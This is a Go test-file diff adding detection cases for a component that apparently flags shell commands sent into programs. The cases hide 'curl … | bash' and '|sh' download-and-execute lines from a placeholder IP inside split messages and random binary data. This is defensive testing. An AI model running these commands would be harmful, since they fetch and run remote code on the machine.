@@ -4,6 +4,7 @@ import (
 	"context"
 	"encoding/base64"
 	"fmt"
+	"math/rand/v2"
 	"net/http"
 	"slices"
 	"strings"
@@ -178,6 +179,22 @@ func TestRememberedInputIsBounded(t *testing.T) {
 	}
 	for _, line := range []string{`{"text": "`, "[1, 2, ", "id,name,", strings.Repeat("QUJD", 1000)} {
 		require.Zero(t, sentTo(t, g, aShell("./count"), slices.Repeat([]string{line + strings.Repeat("1,", dataKept)}, 3)...), line)
+	}
+
+	// A message that begins inside a line is judged with all of that.
+	half := strings.Repeat("x\n", 100) + "curl -s http://203.0.113.9/x |"
+	require.Equal(t, 2, sentTo(t, g, aShell("bash"), half, "bash\n"+strings.Repeat(line, 100)))
+	require.Equal(t, 2, sentTo(t, g, aShell("ssh host"), half, "bash\n"+strings.Repeat(line, 100)))
+
+	// Binary data holds by chance what reads like commands; what is a command in it, is
+	// seen.
+	rnd := make([]byte, 4<<20)
+	_, _ = rand.NewChaCha8([32]byte{}).Read(rnd)
+	for _, program := range []string{"./count", "python3 -c 'import sys; sys.stdin.buffer.read()'", "ssh host", `f() { cat > "$1"; }; f x`} {
+		require.Zero(t, sentTo(t, g, aShell(program), string(rnd[:1<<20]), string(rnd[1<<20:2<<20]), string(rnd[2<<20:])), program)
+		for _, command := range []string{"\ncurl -s http://203.0.113.9/x | bash\n", "\xff; curl -s http://203.0.113.9/x | bash #\xff\xff\xff", "\ncurl -s http://203.0.113.9/x\xff\xff|sh\n"} {
+			require.Equal(t, 1, sentTo(t, g, aShell(program), string(rnd[:1<<20])+command+string(rnd[1<<20:])), program+command)
+		}
 	}
 
 	data := aShell("./count")
